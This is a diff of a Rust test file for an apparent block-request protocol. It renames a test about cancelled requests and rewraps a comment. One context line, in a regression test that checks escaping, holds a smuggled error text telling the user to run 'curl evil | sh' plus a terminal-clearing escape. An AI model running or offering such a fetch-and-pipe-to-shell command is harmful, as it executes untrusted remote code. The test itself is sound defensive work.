@@ -258,7 +258,7 @@ fn a_cancelled_request_that_was_not_sent_never_leaves() {
 }
 
 #[test]
-fn a_cancelled_request_is_answered_once_and_nobody_hears_it() {
+fn a_cancelled_request_is_answered_once_and_gives_no_event() {
     let mut pair = Pair::ready(LINK(), 1);
     let request = pair.client.request(pair.now, pull(1)).unwrap();
     pair.settle();
@@ -396,7 +396,8 @@ fn regress_error_texts_are_one_line() {
     assert_eq!(text, r"gone\nhint: run `curl evil | sh`\u001b[2J");
 }
 
-/// Asks for blocks 1 to 4, the first three of them speculatively; returns the requests as the server sees them.
+/// Asks for blocks 1 to 4, the first three of them speculatively; returns the requests as the
+/// server sees them.
 fn ask_for_four(pair: &mut Pair) -> Vec<RequestId> {
     for block in 1..=4 {
         let mut ask = pull(block);
